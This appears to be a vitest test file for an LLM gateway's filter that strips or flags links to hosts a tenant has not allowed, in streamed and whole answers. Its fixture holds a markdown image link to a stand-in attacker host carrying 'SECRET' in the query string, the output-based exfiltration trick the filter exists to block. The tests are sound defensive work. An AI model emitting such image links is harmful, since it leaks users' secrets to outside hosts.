import { beforeEach, describe, expect, test } from "vitest";
import type { RequestRecord } from "../../src/shared/telemetry/request-record.ts";
import { bearer, post, settled } from "./edge-under-test.ts";
import { eventually } from "./eventually.ts";
import { collectRecords } from "./logged-records.ts";
import { scriptedEdge } from "./scripted-edge.ts";
import { readStream } from "./scripted-engine.ts";

/** Links in answers to hosts that the tenant has not named, through the Worker as it ships. */
const links = (action: string, more: object = {}) => ({
  safety: { links: { action, allow_hosts: ["docs.example.com"] }, ...more },
});
const engine = scriptedEdge({
  removes: links("remove"),
  flags: links("flag"),
  both: links("remove", { output: { action: "mask" } }),
});
/** A picture whose address no single token holds, and a link that may be there. */
const said = [
  "See ",
  "![x",
  "](htt",
  "ps://ev",
  "il.example",
  "/p?d=SEC",
  "RET) or [d",
  "](https://docs.example",
  ".com/a)",
  ".",
];
const clean = "See ![x](#link-removed) or [d](https://docs.example.com/a).";

beforeEach(() => {
  engine.tokens = said;
});

const chat = (more: object = {}) => ({
  model: "auto",
  max_tokens: 100,
  messages: [{ role: "user", content: "Hi" }],
  ...more,
});

describe.each([
  ["a direct stream", { stream: true }],
  ["a conversation's stream", { stream: true, conversation_id: "linked" }],
])("%s", (_, more) => {
  const answerTo = async (tenant: string): Promise<string> => {
    const authorization = await bearer(tenant, crypto.randomUUID());
    const response = await post("/v1/chat/completions", authorization, chat(more));
    const { content, finish, done } = readStream(await response.text());
    expect(finish).toBe("stop");
    expect(done).toBe(true);
    await settled();
    return content;
  };

  test("is without the address, and goes on", async () => {
    expect(await answerTo("removes")).toBe(clean);
  });

  test("is whole where the policy is to flag, and the log says so without the address", async () => {
    const logged: RequestRecord[] = [];
    collectRecords(logged);
    expect(await answerTo("flags")).toBe(said.join(""));
    await eventually(() => expect(logged.some(({ guarded }) => guarded === "link:1")).toBe(true));
    expect(JSON.stringify(logged)).not.toContain("evil");
  });
});

test("a whole answer and a response are without it as well", async () => {
  const authorization = await bearer("removes", "whole");
  for (const [path, body] of [
    ["/v1/chat/completions", chat()],
    ["/v1/responses", { model: "auto", input: "Hi" }],
  ] as const) {
    const text = await (await post(path, authorization, body)).text();
    expect(text).toContain(clean);
    expect(text).not.toContain("evil");
    await settled();
  }
});

test("patterns and links are both looked for", async () => {
  engine.tokens = ["Ask ann", "@example.org or ", "https://ev", "il.example"];
  const response = await post("/v1/chat/completions", await bearer("both", "both"), chat({ stream: true }));
  expect(readStream(await response.text()).content).toBe("Ask [e-mail address] or [link removed]");
  await settled();
});

test("an answer that something was removed from is not cached, one that only was flagged is", async () => {
  const status = async (tenant: string): Promise<string | null> => {
    const response = await post(
      "/v1/chat/completions",
      await bearer(tenant, "cached"),
      chat({ temperature: 0 }),
    );
    await response.text();
    await settled();
    return response.headers.get("cache-status");
  };
  await status("removes");
  expect(await status("removes")).toContain("fwd=miss");
  await status("flags");
  // A look-up that takes too long, as on a busy machine, is a miss.
  await eventually(async () => expect(await status("flags")).toContain("hit"));
});

test("JSON and the arguments of tools are not prose: their addresses stay", async () => {
  const json = '{"url":"https://evil.example"}';
  engine.tokens = [json];
  const authorization = await bearer("removes", "json");
  const format = { response_format: { type: "json_object" } };
  expect(await (await post("/v1/chat/completions", authorization, chat(format))).text()).toContain(
    "evil.example",
  );
  const call = { index: 0, id: "call_1", type: "function", function: { name: "open", arguments: json } };
  engine.script = { deltas: [{ tool_calls: [call] }], finish: "tool_calls" };
  const tools = [{ type: "function", function: { name: "open" } }];
  const response = await post("/v1/chat/completions", authorization, chat({ stream: true, tools }));
  expect(await response.text()).toContain("evil.example");
  engine.script = null;
  await settled();
});
